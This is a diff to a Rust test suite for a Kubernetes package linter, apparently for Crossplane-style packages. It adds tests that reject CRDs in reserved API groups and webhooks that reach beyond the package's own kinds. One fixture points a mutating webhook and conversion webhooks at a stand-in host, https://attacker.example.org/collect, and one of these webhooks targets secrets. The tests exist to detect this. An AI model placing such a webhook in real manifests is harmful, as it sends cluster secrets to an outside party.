@@ -407,6 +407,7 @@ fn definitions_have_what_the_server_demands() {
     ");
     insta::assert_snapshot!(check("/spec/scope", json!("Global")), @r#"2.yaml:10:10: error: scope "Global" does not exist (write Namespaced or Cluster) [crd-invalid]"#);
     insta::assert_snapshot!(check("/spec/group", json!("example")), @r#"
+    2.yaml:1:1: error: CustomResourceDefinition defines a kind in the group "example", which is Kubernetes' own (choose a group under a domain of yours; no cluster installs this one) [group-reserved]
     2.yaml:4:9: error: definition is named "buckets.example.org" but must be named "buckets.example" (the name is spec.names.plural, a dot, and spec.group) [object-name]
     2.yaml:6:10: error: group "example" is not a domain with a dot [crd-invalid]
     "#);
@@ -534,4 +535,86 @@ fn of_a_thousand_wrong_values_some_are_told() {
     let names: Vec<Json> = (0..1000).map(|number| json!(number)).collect();
     let bad = with(&crd(), "/spec/names/shortNames", json!(names));
     assert_eq!(lint(&[provider(), bad]).lines().count(), 32);
+}
+
+/// A webhook of a package that is called about this kind, and reached like that.
+fn webhook(group: &str, resource: &str, client: &Json) -> Json {
+    json!({
+        "apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
+        "metadata": { "name": "hook" },
+        "webhooks": [{
+            "name": "hook.example.org", "admissionReviewVersions": ["v1"], "sideEffects": "None",
+            "clientConfig": client,
+            "rules": [{
+                "apiGroups": [group], "apiVersions": ["*"], "operations": ["*"],
+                "resources": [resource],
+            }],
+        }],
+    })
+}
+
+fn definition_in(definition: &Json, group: &str) -> Json {
+    let plural = definition["spec"]["names"]["plural"].as_str().unwrap();
+    let named = with(definition, "/metadata/name", json!(format!("{plural}.{group}")));
+    with(&named, "/spec/group", json!(group))
+}
+
+/// C2 and H1, as far as an author can be told.
+#[test]
+fn c2_h1_groups_of_others_are_no_packages() {
+    for group in ["nop.crossplane.io", "s3.aws.upbound.io", "ops.example.org"] {
+        assert_eq!(lint(&[provider(), definition_in(&crd(), group)]), "", "{group}");
+        assert_eq!(lint(&[configuration(&[]), definition_in(&xrd(), group)]), "", "{group}");
+    }
+    // What a function defines is only a description.
+    let function = with(&provider(), "/kind", json!("Function"));
+    assert_eq!(lint(&[function, definition_in(&crd(), "rbac.authorization.k8s.io")]), "");
+    let managed = with(&crd(), "/kind", json!("ManagedResourceDefinition"));
+    let managed = with(&managed, "/apiVersion", json!("apiextensions.crossplane.io/v1alpha1"));
+    let other_name = with(&managed, "/metadata/name", json!("buckets.pkg.crossplane.io"));
+    let packages = [
+        vec![provider(), definition_in(&crd(), "rbac.authorization.k8s.io")],
+        vec![provider(), definition_in(&crd(), "pkg.crossplane.io")],
+        vec![provider(), definition_in(&crd(), "gateway.networking.k8s.io")],
+        vec![provider(), other_name],
+        vec![configuration(&[]), definition_in(&xrd(), "meta.pkg.ibm.crossplane.io")],
+    ];
+    insta::assert_snapshot!(packages.map(|one| lint(&one)).join("\n"), @r#"
+    2.yaml:1:1: error: CustomResourceDefinition defines a kind in the group "rbac.authorization.k8s.io", which is Kubernetes' own (choose a group under a domain of yours; no cluster installs this one) [group-reserved]
+    2.yaml:1:1: error: CustomResourceDefinition defines a kind in the group "pkg.crossplane.io", which is the package manager's own (choose a group under a domain of yours; no cluster installs this one) [group-reserved]
+    2.yaml:1:1: warning: CustomResourceDefinition defines a kind in the group "gateway.networking.k8s.io", which is kept for Kubernetes' community (it is installed only where an administrator opens the group to packages: apron manager --allow-group GROUP) [group-community]
+    2.yaml:1:1: error: ManagedResourceDefinition defines a kind in the group "pkg.crossplane.io", which is the package manager's own (choose a group under a domain of yours; no cluster installs this one) [group-reserved]
+    2.yaml:4:9: error: definition is named "buckets.pkg.crossplane.io" but must be named "buckets.example.org" (the name is spec.names.plural, a dot, and spec.group) [object-name]
+    2.yaml:1:1: error: CompositeResourceDefinition defines a kind in the group "meta.pkg.ibm.crossplane.io", which is the package manager's own (choose a group under a domain of yours; no cluster installs this one) [group-reserved]
+    "#);
+}
+
+/// H7, as far as an author can be told.
+#[test]
+fn h7_webhooks_are_about_the_package_and_at_its_service() {
+    let service = json!({ "service": { "name": "x", "namespace": "y" } });
+    let url = json!({ "url": "https://attacker.example.org/collect" });
+    for resource in ["buckets", "buckets/status", "buckets/*"] {
+        assert_eq!(lint(&[provider(), crd(), webhook("example.org", resource, &service)]), "");
+    }
+    let conversion = |client: &Json| {
+        let webhook = json!({ "conversionReviewVersions": ["v1"], "clientConfig": client });
+        json!({ "strategy": "Webhook", "webhook": webhook })
+    };
+    let converted = |definition: &Json| with(definition, "/spec/conversion", conversion(&url));
+    let packages = [
+        vec![provider(), crd(), webhook("example.org", "*", &service)],
+        vec![provider(), crd(), webhook("*", "buckets", &service)],
+        vec![provider(), crd(), webhook("", "secrets", &url)],
+        vec![provider(), converted(&crd())],
+        vec![configuration(&[]), converted(&xrd())],
+    ];
+    insta::assert_snapshot!(packages.map(|one| lint(&one)).join("\n"), @r"
+    3.yaml:1:1: warning: MutatingWebhookConfiguration is called about kinds that the package does not bring: *.example.org (name only kinds of the package in its rules, or tell those who install it to run `apron permissions allow`) [webhook-scope]
+    3.yaml:1:1: warning: MutatingWebhookConfiguration is called about kinds that the package does not bring: buckets.* (name only kinds of the package in its rules, or tell those who install it to run `apron permissions allow`) [webhook-scope]
+    3.yaml:1:1: error: MutatingWebhookConfiguration has the API server call https://attacker.example.org/collect (remove clientConfig.url: the package manager leads the call to the Service of the package) [webhook-address]
+    3.yaml:1:1: warning: MutatingWebhookConfiguration is called about kinds that the package does not bring: secrets (name only kinds of the package in its rules, or tell those who install it to run `apron permissions allow`) [webhook-scope]
+    2.yaml:1:1: error: CustomResourceDefinition has the API server call https://attacker.example.org/collect (remove clientConfig.url: the package manager leads the call to the Service of the package) [webhook-address]
+    2.yaml:1:1: error: CompositeResourceDefinition has the API server call https://attacker.example.org/collect (remove clientConfig.url: the package manager leads the call to the Service of the package) [webhook-address]
+    ");
 }
